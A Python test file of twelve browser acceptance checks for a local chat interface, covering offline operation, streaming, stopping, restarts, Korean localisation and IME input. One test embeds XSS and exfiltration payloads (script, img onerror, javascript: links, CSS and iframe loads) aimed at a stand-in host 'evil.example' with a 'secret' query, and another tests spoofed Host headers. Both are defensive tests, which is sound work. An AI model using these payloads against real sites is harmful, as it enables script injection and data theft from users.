"""The twelve checks that the screen must pass (UI.md §3.6), numbered as there.

Bounds in seconds are ten times those that hold on a quiet machine: what is asserted is that nothing
hangs, in which order things happen, and that they happen at all.
"""

import re
import socket
import statistics
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.ui.conftest import LOCAL, Looking, answered, ask, drop, replies, watch_lengths
from tests.ui.served import Tiny
from tests.ui.test_browser_chat import compose
from tests.ui.test_browser_looks import english_in, see

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tiny]:
    found = Tiny(tmp_path_factory.mktemp("accepted"))
    yield found
    found.end()


def opened(looking: Looking, tiny: Tiny, lang: str = "en", chat: str = "") -> Page:
    """A page on the tiny server, under the eyes of the one that notes troubles."""
    page = looking.context.new_page()
    looking._others.append(page)
    page.goto(f"{tiny.url}/{lang}/" + (f"?c={chat}" if chat else ""))
    page.wait_for_function("window.kvchat?.frame && document.getElementById('kv-input')")
    return page


MANIFEST = """async () => {
  const link = document.querySelector("link[rel=manifest]");
  const found = await (await fetch(link.href)).json();
  return [found.name, (await fetch(found.icons[0].src)).status]; }"""


def test_1_nothing_is_looked_up_or_asked_for_outside(
    looking: Looking, tiny: Tiny, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of the browser and of Python: opening, asking, every tab, both languages, and all once more.
    Nothing that is asked for is missing, and the console has no error.
    """
    looked_up: list[str] = []
    real = socket.getaddrinfo

    def noted(host: Any, *rest: Any, **more: Any) -> Any:
        looked_up.append(host.decode() if isinstance(host, bytes) else str(host or ""))
        return real(host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", noted)
    before = len(looking.requests)
    for lang in ("en", "ko"):
        page = opened(looking, tiny, lang)
        ask(page, "![x](https://example.com/x.png) what?")
        for tab in page.locator("[role=tab]").evaluate_all("(all) => all.map((one) => one.id)"):
            page.evaluate("kvchat.panel.open()")
            page.locator(f"#{tab}").click()
            page.wait_for_timeout(150)
        page.reload()
        page.wait_for_function("window.kvchat?.frame && kvchat.notes.turns.length === 1")
    assert len(looking.requests) > before
    assert page.evaluate(MANIFEST) == ["kvchat", 200]
    assert looking.console == []
    assert [host for host in looked_up if host not in LOCAL] == []
    assert looking.troubles == []  # would say what left the machine


def test_2_the_last_token_of_a_long_chat_is_shown_at_once(looking: Looking) -> None:
    talks = looking.talks
    talks.token_s = 0.0
    chat = talks.new_chat()
    for number in range(40):
        live = talks.ask(chat, f"count to {number + 1}")
        assert live.wait_ended(5)
        while talks.live(chat):
            time.sleep(0.005)
    page = looking.open(chat=chat)
    talks.token_s = 1 / 60
    watch_lengths(page)
    ask(page, "count to 120", wait=False)
    while talks.live(chat):
        time.sleep(0.01)
    ended_s = time.monotonic()
    expect(page.locator(".kv-text").last).to_have_text(re.compile(r"119 120\s*$"), timeout=20_000)
    assert time.monotonic() - ended_s < 10
    assert page.evaluate("window.lengths.size") > 3  # it streamed


@pytest.mark.slow
def test_3_twenty_stops_of_twenty(looking: Looking) -> None:
    page = looking.page
    looking.talks.token_s = 0.01
    took_s = []
    for number in range(20):
        ask(page, "count to 1000", wait=False)
        expect(page.locator(".kv-text").last).to_contain_text("3")
        begun_s = time.monotonic()
        page.keyboard.press("Escape") if number % 2 else page.click(".kv-stop", force=True)
        page.wait_for_function("!kvchat.notes.live")
        took_s.append(time.monotonic() - begun_s)
        assert page.locator(".error").count() == 0
    expect(page.locator(".kv-end-cancelled")).to_have_count(20)
    assert statistics.median(took_s) < 2
    kept = looking.talks.history(page.evaluate("kvchat.chat"))
    assert all((one.reply or "").startswith("1 2 3 ") for one in kept)


def test_4_a_reload_in_mid_answer_goes_on(looking: Looking) -> None:
    page = looking.open("ko")
    looking.talks.token_s = 0.02
    ask(page, "count to 150", wait=False)
    expect(page.locator(".kv-text")).to_contain_text("20")
    page.reload()
    expect(page.locator(".kv-stop")).to_be_visible()
    seen = len(page.locator(".kv-text").inner_text())
    page.wait_for_function(
        "(seen) => document.querySelector('.kv-text').innerText.length > seen", arg=seen
    )
    answered(page)
    assert replies(page)[0].split() == [str(number) for number in range(1, 151)]


def test_5_a_restart_keeps_the_chats(looking: Looking, tmp_path: Path) -> None:
    tiny = Tiny(tmp_path)
    page = opened(looking, tiny)
    for text in ("one", "둘"):
        page.keyboard.press("Control+Shift+O")
        ask(page, text)
    before = replies(page)
    chat = page.evaluate("kvchat.chat")
    page.close()
    tiny.end()
    tiny.begin()
    page = opened(looking, tiny, chat=chat)
    expect(page.locator(".kv-chat-title")).to_have_text(["둘", "one"])
    answered(page)
    assert replies(page) == before
    page.close()
    tiny.end()


def test_6_eight_tabs_and_hidden_ones_let_go_of_their_stream(looking: Looking) -> None:
    pages = []
    for _ in range(8):  # a browser opens six connections to a host
        pages.append(looking.open())
        see(pages[-1], False)
    opened_streams = sum("/api/live" in url for url in looking.requests)
    assert opened_streams >= 8
    for page in (pages[7], pages[0], pages[3]):
        see(page, True)
        ask(page, "count to 3")
        assert replies(page)[-1] == "1 2 3"
        see(page, False)
    assert not any("heartbeat" in url for url in looking.requests)


def test_7_the_bar_sums_to_the_device_in_every_frame(looking: Looking, tiny: Tiny) -> None:
    page = opened(looking, tiny)
    page.evaluate(
        """() => { window.sums = [];
        kvchat.on("frame", (frame) => requestAnimationFrame(() => { if (frame === kvchat.frame)
          sums.push([[...document.querySelectorAll(".kv-seg")].reduce((sum, one) =>
            sum + one.kvPart.bytes, 0), frame.device.total]); })); }"""
    )
    for number in range(3):
        ask(page, f"{number} " + "word " * 60)
    page.wait_for_function("sums.length > 8")
    sums = page.evaluate("sums")
    assert {abs(drawn - total) <= 2**20 for drawn, total in sums} == {True}
    assert sums[0][1] > 2**30


def test_8_the_korean_page_is_korean_and_holds_no_heartbeat(looking: Looking, tiny: Tiny) -> None:
    for row in tiny.talks.chats():  # titles are people's own words
        tiny.talks.delete(row.id)
    page = opened(looking, tiny, "ko")
    ask(page, "필터 청소는 얼마나 자주 해?")
    reply = replies(page)[0]
    seen = [page.locator("body").inner_text()]
    tabs = page.locator("[role=tab]").evaluate_all("(all) => all.map((one) => one.id)")
    for tab in tabs:
        page.evaluate("kvchat.panel.open()")
        page.locator(f"#{tab}").click()
        page.wait_for_timeout(300)
        seen.append(page.locator(f"#{tab.replace('tab', 'body', 1)}").inner_text())
    page.keyboard.press("Control+/")
    seen.append(page.locator(".kv-dialog").inner_text())
    text = "\n".join(seen)
    for broken in ("[object Object]", "__i18n__", "undefined", "NaN"):
        assert broken not in text
    for own in (reply, tiny.talks.settings.system_text, str(tiny.folder)):
        text = text.replace(own, "")
    assert page.evaluate("document.documentElement.lang") == "ko"
    assert english_in(text) == []
    assert not any("heartbeat" in url for url in looking.requests)


OUT = "https://evil.example/?q=secret"
HOSTILE = (
    f"![leak]({OUT}) <img src={OUT} onerror=window.hacked=1> <video src={OUT}></video> "
    f"[run](javascript:window.hacked=1) <style>body{{background:url({OUT})}}</style> "
    f"<script>window.hacked=1</script> <iframe src={OUT}></iframe> <link rel=stylesheet href={OUT}>"
)


def test_9_no_picture_script_or_link_leaves_or_runs(looking: Looking, tiny: Tiny) -> None:
    """In a question, a reply, reasoning, a title, a file's name and text, a searched snippet."""
    chat = tiny.said(
        HOSTILE, HOSTILE, "and thought", f"<think>{HOSTILE}</think>\n\n{HOSTILE}", title=HOSTILE
    )
    page = opened(looking, tiny, chat=chat)
    page.wait_for_function("kvchat.notes.turns.length === 2")
    drop(page, f"{HOSTILE[:80].replace('/', '-')}.md", HOSTILE.encode())
    expect(page.locator(".kv-pending")).to_be_visible(timeout=30_000)
    ask(page, "what does it say?")
    page.locator(".kv-think summary").first.click()
    page.fill(".kv-search", "leak")
    expect(page.locator(".kv-hit").first).to_be_visible()
    for tab in page.locator("[role=tab]").evaluate_all("(all) => all.map((one) => one.id)"):
        page.evaluate("kvchat.panel.open()")
        page.locator(f"#{tab}").click()
        page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert not any("evil.example" in url for url in looking.requests)
    assert page.locator(".kv-words").first.inner_text() == HOSTILE
    shown = page.locator(".kv-text").first.inner_text()
    for part in ("onerror=window.hacked=1", "<script>window.hacked=1</script>", "<iframe src="):
        assert part in shown
    inside = page.locator("#kv-app").locator("img[src*=evil], iframe, video, link, script")
    assert inside.count() == 0
    links = page.locator("#kv-app a").evaluate_all("(all) => all.map((one) => one.href)")
    assert not any(link.startswith("javascript:") for link in links)


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:80", "192.168.0.7", "127.0.0.1.evil"]
)
def test_10_another_host_is_refused(looking: Looking, host: str) -> None:
    for path in (
        "/",
        "/en/",
        "/v1/models",
        "/api/memory",
        "/gradio_api/info",
        "/api/export?chat=x",
    ):
        request = urllib.request.Request(looking.url + path, headers={"Host": host})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code == 421
        assert "access-control-allow-origin" not in refused.value.headers


def test_11_chip_bar_table_and_sentence_agree(looking: Looking) -> None:
    page = looking.page
    for _ in range(3):
        ask(page, "count to 30")
    page.evaluate("kvchat.panel.open('turns')")
    chat = page.evaluate("kvchat.chat")
    page.wait_for_function("kvchat.frame.turns.length === 3")
    page.evaluate(
        """() => { window.seenAt = {};
        const parts = { chip: () => document.querySelector("#kv-figures-1").innerText,
          bar: () => document.querySelector(".kv-legend").innerText,
          table: () => document.querySelector("#kv-body-turns table").innerText,
          sentence: () => document.querySelector(".kv-last-what").innerText };
        const look = () => { for (const [name, read] of Object.entries(parts))
          if (!seenAt[name] && /INT8|fewer bits/.test(read())) seenAt[name] = performance.now();
          if (Object.keys(seenAt).length < 4) requestAnimationFrame(look); };
        look(); }"""
    )
    assert page.evaluate("Object.keys(seenAt).length") == 0
    looking.talks.record(chat, "requantize", "no_room", 3 * 2**20, tokens=90, formats="int8/int8")
    looking.talks.squeeze = True
    page.wait_for_function("Object.keys(seenAt).length === 4", timeout=20_000)
    times = page.evaluate("Object.values(seenAt)")
    assert max(times) - min(times) < 2_000


def test_12_enter_in_mid_syllable_sends_nothing(looking: Looking) -> None:
    page = looking.open("ko")
    ask(page, "count to 3")
    for box in ("#kv-input", ".kv-edit", ".kv-rename"):
        if box == ".kv-edit":
            page.evaluate("kvchat.edit(1)")
        if box == ".kv-rename":
            page.keyboard.press("Escape")
            page.locator(".kv-chat-row").hover()
            page.get_by_role("button", name="이 채팅 이름 바꾸기").click()
        page.focus(box)
        compose(page, "한")
        page.wait_for_timeout(250)
        assert page.locator(box).count() == 1, box
        assert len(looking.talks.history(page.evaluate("kvchat.chat"))) == 1
        page.context.new_cdp_session(page).send("Input.insertText", {"text": "한"})
        assert page.locator(box).input_value().endswith("한")
        if box == "#kv-input":
            page.fill(box, "")
